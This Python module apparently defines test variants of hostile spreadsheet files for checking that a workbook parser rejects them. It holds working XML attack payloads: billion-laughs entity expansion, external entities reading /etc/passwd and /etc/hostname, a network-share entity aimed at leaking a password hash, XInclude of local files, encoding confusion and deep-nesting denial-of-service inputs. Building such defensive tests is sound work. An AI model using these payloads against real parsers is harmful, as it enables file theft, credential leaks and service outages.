"""XML that declares entities, in every part and every encoding, and XML that is deep, wide or none."""

from __future__ import annotations

import codecs
import gzip
from collections.abc import Callable

from hostile.making import IDENTITY, RELATIONS, ROOT, SHEET, STRINGS, STYLES, TYPES, WORKBOOK, Make, Variant, pack, plus, rewritten, shared

LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">' + "".join(
    f'<!ENTITY {chr(98 + n)}x "{f"&{chr(97 + n)}x;" * 10 if n else "&b;" * 10}">' for n in range(8)
) + "]>"  # fmt: skip
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
EVERY = (WORKBOOK, SHEET, IDENTITY, STYLES, "docProps/custom.xml", "docProps/core.xml", "docProps/app.xml", TYPES, ROOT, RELATIONS, "xl/theme/theme1.xml", "xl/tables/table1.xml", "xl/worksheets/_rels/sheet3.xml.rels")


def declared(name: str, doctype: str, encode: Callable[[str], bytes] = str.encode, head: str = "", before: str = "") -> Make:
    """A part with a declaration before its first element."""

    def change(body: bytes) -> bytes:
        text = body.decode()
        at = text.index("?>") + 2 if text.startswith("<?xml") else 0
        return encode(head + before + doctype + text[at:])

    return rewritten(name, change)


def encoded(name: str, encoding: str, mark: bytes = b"") -> Make:
    """A part in another encoding, and saying so."""
    return declared(name, "", lambda text: mark + text.encode(encoding), f'<?xml version="1.0" encoding="{encoding}"?>')


def first_child(name: str, xml: str) -> Make:
    """A part with something first in its root."""
    return rewritten(name, lambda body: _inserted(body, xml.encode()))


def _inserted(body: bytes, xml: bytes) -> bytes:
    at = body.index(b">", body.index(b"?>") + 2 if body.startswith(b"<?xml") else 0) + 1
    return body[:at] + xml + body[at:]


def deep(tag: str, levels: int = 100_000) -> str:
    return f"<{tag}>" * levels + f"</{tag}>" * levels


def as_is(name: str, change: Callable[[bytes], bytes]) -> Make:
    return rewritten(name, change)


D = "DAMAGED"
ROWS = (
    *(Variant(f"laughs in {name}", "a billion laughs", declared(name, LAUGHS)) for name in EVERY),
    *(Variant(f"outside, {name}", "an entity that is a file of this computer", declared(name, OUTSIDE)) for name in (SHEET, WORKBOOK, RELATIONS, "docProps/custom.xml")),
    Variant("outside in texts", "the same in the shared texts", lambda p: pack({**(s := shared(p)), STRINGS: OUTSIDE.encode() + s[STRINGS]})),
    Variant("over the network", "an entity that is an address", declared(SHEET, '<!DOCTYPE x SYSTEM "http://qaf.example/x.dtd">')),
    Variant("network share", "an entity on a share, which would give a password's hash away", declared(SHEET, r'<!DOCTYPE x [<!ENTITY a SYSTEM "\\qaf.example\x">]>')),
    Variant("parameter entity", "an entity for declarations", declared(SHEET, '<!DOCTYPE x [<!ENTITY % a SYSTEM "file:///etc/hostname"> %a;]>')),
    Variant("bare doctype", "a document type and nothing else", declared(SHEET, "<!DOCTYPE worksheet>")),
    Variant("after a comment", "the declaration follows 200 KB of comment", declared(SHEET, LAUGHS, before=f"<!--{'x' * 200_000}-->")),
    Variant("after a comment, unread", "the same in a part that is not read", declared("xl/theme/theme1.xml", LAUGHS, before=f"<!--{'x' * 200_000}-->")),
    Variant("after blanks", "the declaration follows 200 KB of blanks", declared("docProps/app.xml", LAUGHS, before="\n" * 200_000)),
    Variant("declared in UTF-16, unread", "with a mark", declared("docProps/core.xml", OUTSIDE, lambda t: codecs.BOM_UTF16_BE + t.encode("utf-16-be"))),
    Variant("declared in UTF-16, no mark", "without a mark, where nobody reads", declared("docProps/core.xml", OUTSIDE, lambda t: t.encode("utf-16-le"), '<?xml version="1.0" encoding="UTF-16LE"?>')),
    Variant("declared in UTF-16, read", "in the questions", declared(SHEET, OUTSIDE, lambda t: t.encode("utf-16"))),
    Variant("declared in UTF-7", "in the questions", declared(SHEET, "", lambda t: t.encode("utf-7"), '<?xml version="1.0" encoding="UTF-7"?>' + OUTSIDE), code=D),
    Variant("declared under another ending", "a billion laughs in questions that are called sheet2.dat", lambda p: pack({**{("xl/worksheets/sheet2.dat" if n == SHEET else n): (LAUGHS.encode() + b if n == SHEET else b) for n, b in p.items()}, RELATIONS: p[RELATIONS].replace(b"sheet2.xml", b"sheet2.dat")})),
    Variant("custom part that declares", "an entity in a custom XML part", plus({"customXml/item1.xml": (OUTSIDE + "<x>&a;</x>").encode()})),
    *(Variant(f"questions in {e}", "what two readers may read as two things", encoded(SHEET, e), code=D) for e in ("utf-16-le", "utf-16-be", "utf-32", "iso-8859-1", "windows-1252", "cp037", "utf-7")),
    Variant("says UTF-16", "UTF-8 that says it is UTF-16", declared(SHEET, "", head='<?xml version="1.0" encoding="UTF-16"?>'), code=D),
    Variant("no letters", "bytes that are no UTF-8 in an answer", as_is(SHEET, lambda b: b.replace(b"made a clear", b"made \xff\xfe clear", 1)), code=D),
    Variant("gzip", "the questions as a gzip file", as_is(SHEET, gzip.compress), code=D),
    Variant("empty questions", "the part with the questions is empty", as_is(SHEET, lambda _: b""), code=D),
    Variant("half the questions", "the part with the questions ends halfway", as_is(SHEET, lambda b: b[: len(b) // 2]), code=D),
    Variant("crossed elements", "elements that close in the wrong order", as_is(SHEET, lambda b: b.replace(b"</t></is>", b"</is></t>", 1)), code=D),
    Variant("unknown entity", "an entity that nobody declared", as_is(SHEET, lambda b: b.replace(b"made a clear", b"made &lt;&clear;", 1)), code=D),
    Variant("two roots", "a second root after the first", as_is(SHEET, lambda b: b + b"<worksheet/>"), code=D),
    *(Variant(f"deep, {name}", "100,000 elements in one another", first_child(name, deep("a"))) for name in (SHEET, WORKBOOK, STYLES, RELATIONS, "docProps/custom.xml")),
    Variant("deep texts", "100,000 elements in one another in the shared texts", lambda p: pack(shared(p, more=f"<si>{deep('r')}</si>"))),
    Variant("5,000 attributes", "on one element", as_is(SHEET, lambda b: b.replace(b"<sheetData", b"<sheetData " + b" ".join(b'a%d="1"' % n for n in range(5000)), 1))),
    Variant("long attribute", "5 MB in one attribute", as_is(SHEET, lambda b: b.replace(b"<sheetData", b'<sheetData a="' + b"x" * 5_000_000 + b'"', 1)), "accepted", ""),
    Variant("long name", "an element with a name of 2 MB", first_child(STYLES, f"<{'x' * 2_000_000}/>"), "accepted", ""),
    Variant("3 million elements", "more than any form", as_is(SHEET, lambda b: b.replace(b"<sheetData>", b"<a/>" * 3_100_000 + b"<sheetData>", 1)), code="UNSAFE_FILE"),
    Variant("a million elements in a list", "in the list of sheets", first_child(WORKBOOK, "<a/>" * 900_000)),
    Variant("includes a file", "xi:include of a file of this computer", first_child(SHEET, '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'), "accepted", ""),
)
